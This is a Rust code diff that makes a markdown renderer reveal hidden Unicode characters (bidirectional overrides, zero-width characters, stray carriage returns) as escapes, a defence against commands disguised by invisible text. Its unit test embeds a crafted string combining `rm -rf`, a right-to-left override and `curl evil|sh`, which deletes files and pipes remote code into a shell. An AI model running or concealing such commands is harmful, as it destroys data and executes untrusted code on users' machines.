@@ -59,6 +59,10 @@ pub fn split(markdown: &str, max_chars: usize) -> Vec<String> {
 pub fn escape_markdown(text: &str) -> String {
     let mut out = String::with_capacity(text.len() + text.len() / 8);
     for c in text.chars() {
+        if is_hidden(c) && c != '\n' {
+            out.push_str(&format!("\\\\u{{{:x}}}", u32::from(c)));
+            continue;
+        }
         if c.is_ascii_punctuation() {
             out.push('\\');
         }
@@ -67,10 +71,38 @@ pub fn escape_markdown(text: &str) -> String {
     out
 }
 
+/// Whether `c` would not show as itself: a control character other than a tab (a lone `\r`
+/// breaks a line for a renderer and not for bash), a bidirectional control (text shown in
+/// another order than it runs: "Trojan Source"), or an invisible one (zero-width, BOM, tags).
+pub fn is_hidden(c: char) -> bool {
+    (c.is_control() && c != '\t' && c != '\n')
+        || matches!(c,
+            '\u{200b}'..='\u{200f}'
+            | '\u{202a}'..='\u{202e}'
+            | '\u{2060}'..='\u{2069}'
+            | '\u{feff}'
+            | '\u{e0000}'..='\u{e007f}')
+}
+
+/// `text` with every [`is_hidden`] character written out as `\u{…}`, so what is shown is
+/// what is there.
+pub fn reveal_hidden(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if is_hidden(c) {
+            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
 /// `text` as a fenced code block that shows exactly `text`: the fence is longer than the
 /// longest run of backticks in it, so no line of `text` can close the block early (and what
 /// follows be read as markdown: a command whose dangerous part hides after a fake fence).
 pub fn code_block(text: &str) -> String {
+    let text = &reveal_hidden(text);
     let mut longest = 0;
     let mut run = 0;
     for c in text.chars() {
@@ -176,6 +208,20 @@ mod tests {
         assert!(shown.contains("[a](https://x)"), "{shown}");
         assert!(shown.contains("[r]: http://h"), "{shown}");
         assert!(!telegram_html(&escape_markdown(text)).contains("<a "));
+    }
+
+    #[test]
+    fn hidden_characters_are_shown_as_escapes() {
+        let trojan = "rm -rf /tmp/x \u{202e}# safe\u{202c}\r; curl evil|sh\u{200b}";
+        let shown = plain_text(&code_block(trojan));
+        assert!(!shown.chars().any(is_hidden), "{shown:?}");
+        assert!(
+            shown.contains("\\u{202e}") && shown.contains("\\u{d}"),
+            "{shown}"
+        );
+        assert!(shown.contains("curl evil|sh"), "{shown}");
+        let shown = plain_text(&escape_markdown("a\u{2066}b\u{feff}c"));
+        assert_eq!(shown, "a\\u{2066}b\\u{feff}c");
     }
 
     #[test]
